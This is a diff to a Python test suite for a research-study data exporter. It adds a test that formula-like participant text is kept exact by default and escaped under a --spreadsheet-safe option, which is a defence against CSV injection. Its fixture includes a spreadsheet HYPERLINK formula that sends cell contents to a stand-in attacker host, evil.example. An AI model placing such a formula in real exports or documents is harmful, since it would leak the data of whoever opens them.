@@ -74,7 +74,9 @@ def test_export_refuses_non_empty_folder(tmp_path: Path, ifllm_sample: Path):
     assert (tmp_path / "out" / "keep.txt").read_text() == "mine"
 
 
-def _study_db(tmp_path: Path) -> str:
+def _study_db(tmp_path: Path, prompt: str = "capital?", answer: str = "It is Paris.",
+              feedback: str = 'the second one, says it, "clearly"\nand more',
+              answers: dict | None = None) -> str:
     url = store.sqlite_url(tmp_path / "site.sqlite")
     Session = store.init_db(store.make_engine(url))
     with Session() as db:
@@ -83,13 +85,12 @@ def _study_db(tmp_path: Path) -> str:
         declined = store.Participant(study=study, pseudonym="p_9z", consent=False)
         task = store.Task(participant=p, kind="pairwise", topic="France", clock_anchor_epoch_ms=1.7e12,
                           finished_at=dt.datetime(2026, 12, 1, 10, 30, 5))
-        p.demographics = store.Demographics(answers={"age": "25-34", "languages": ["en", "fr"]})
+        p.demographics = store.Demographics(answers=answers or {"age": "25-34", "languages": ["en", "fr"]})
         declined.demographics = store.Demographics(answers={"age": "65+"})  # declined: never exported
-        t0 = store.Turn(task=task, index=0, kind="pairwise", prompt="capital?", prompt_sent="capital?", choice=1,
-                        epoch_ms=1.7e12 + 1000, t_shown=1000.0, t_decided=9000.0,
-                        feedback_text="the second one, says it, \"clearly\"\nand more",
+        t0 = store.Turn(task=task, index=0, kind="pairwise", prompt=prompt, prompt_sent=prompt, choice=1,
+                        epoch_ms=1.7e12 + 1000, t_shown=1000.0, t_decided=9000.0, feedback_text=feedback,
                         responses=[store.Response(position=0, model="demo-a", text="Paris.", likert=3),
-                                   store.Response(position=1, model="demo-b", text="It is Paris.", likert=5)])
+                                   store.Response(position=1, model="demo-b", text=answer, likert=5)])
         db.add_all([study, p, declined, task, t0])
         db.flush()
         mouse = pa.table({"t": [500.0, 1500.0, 2500.0], "x": [1, 2, 3], "y": [4, 5, 6]})
@@ -241,3 +242,70 @@ def test_ifllm_export_leaves_out_samples_without_a_position_and_counts_them(tmp_
     assert back.streams(task.task_id)["gaze"].column("x").to_pylist() == [300.0, 320.0]
     assert export_parquet(rec, tmp_path / "pq")["samples"]["gaze"] == 3
 
+
+
+#: what participants (and a model they steered) may write: text a spreadsheet would run as a formula
+FORMULAS = {"prompt": '=HYPERLINK("https://evil.example/?d="&A2,"click")', "answer": "- a bullet list\n- of two",
+            "feedback": " +1 agreed", "answers": {"age": "-", "handle": "@me", "note": "\t=1+1", "plain": "fine"}}
+
+
+def _csv_cells(folder: Path) -> dict[str, list[list[str]]]:
+    """Every CSV file under ``folder`` as the csv module (a spreadsheet's reading) splits it."""
+    import csv
+
+    return {str(f.relative_to(folder)): list(csv.reader(f.open(newline="", encoding="utf-8")))
+            for f in sorted(folder.rglob("*.csv"))}
+
+
+def test_exports_keep_text_exactly_by_default_and_escape_formulas_only_for_spreadsheets(tmp_path: Path, capsys):
+    """Text a spreadsheet would run as a formula (OWASP "CSV Injection": = + - @ tab CR first) is
+    written exactly by default (pandas and the reader get it back as stored); with
+    --spreadsheet-safe every such text cell of every CSV gets a leading ' and nothing else changes
+    (numbers included), the export says so, and the reader refuses it."""
+    import pandas as pd
+
+    from gazepref.datasets.export import FORMULA_TRIGGERS, SPREADSHEET_NOTE
+
+    url = _study_db(tmp_path, **FORMULAS)
+    exact, safe = tmp_path / "exact", tmp_path / "safe"
+    for out, extra in ((exact, []), (safe, ["--spreadsheet-safe"])):
+        assert main(["data", "export", "pilot", "--db", url, "--to", "ifllm", "--out", str(out), "--demographics",
+                     "--json", *extra]) == 0
+        manifest = json.loads(capsys.readouterr().out)
+        assert manifest.get("spreadsheet_safe", False) == bool(extra)
+
+    (turn,) = open_release(exact).turns()
+    assert turn.prompt == FORMULAS["prompt"] and turn.feedback_text == FORMULAS["feedback"]
+    assert turn.responses[1].text == FORMULAS["answer"]
+    demo = pd.read_csv(exact / "demographics.csv", dtype=str, keep_default_na=False)
+    assert demo.drop(columns="participant_id").to_dict("records") == [FORMULAS["answers"]]
+    assert not (exact / "SPREADSHEET_SAFE.txt").exists()
+
+    def formula(cell: str) -> bool:  # (a number, e.g. a negative coordinate, is a number to a spreadsheet too)
+        try:
+            float(cell)
+            return False
+        except ValueError:
+            return bool(cell) and (cell[0] in FORMULA_TRIGGERS or cell.lstrip()[:1] in FORMULA_TRIGGERS)
+
+    plain, escaped = _csv_cells(exact), _csv_cells(safe)
+    assert plain.keys() == escaped.keys() and "demographics.csv" in plain and "query_logs_table.csv" in plain
+    changed = []
+    for name, rows in plain.items():
+        assert len(rows) == len(escaped[name])
+        for row, row_safe in zip(rows, escaped[name]):
+            assert not any(formula(c) for c in row_safe), (name, row_safe)
+            for c, c_safe in zip(row, row_safe):
+                if c != c_safe:
+                    assert c_safe == "'" + c and formula(c), (name, c, c_safe)
+                    changed.append(c)
+    # the participant's text only: every formula-like cell, and no number (a negative one would be)
+    assert sorted(changed) == sorted([FORMULAS["prompt"], FORMULAS["answer"], FORMULAS["feedback"],
+                                      *(v for v in FORMULAS["answers"].values() if formula(v))])
+    assert (safe / "SPREADSHEET_SAFE.txt").read_text() == SPREADSHEET_NOTE
+    with pytest.raises(UserError, match="spreadsheet"):
+        open_release(safe)
+    # the same folder exported again without the option is exact, and readable, again
+    assert main(["data", "export", "pilot", "--db", url, "--to", "ifllm", "--out", str(safe), "--overwrite",
+                 "--demographics", "--json"]) == 0
+    assert _csv_cells(safe) == plain and open_release(safe).turns()[0].prompt == FORMULAS["prompt"]
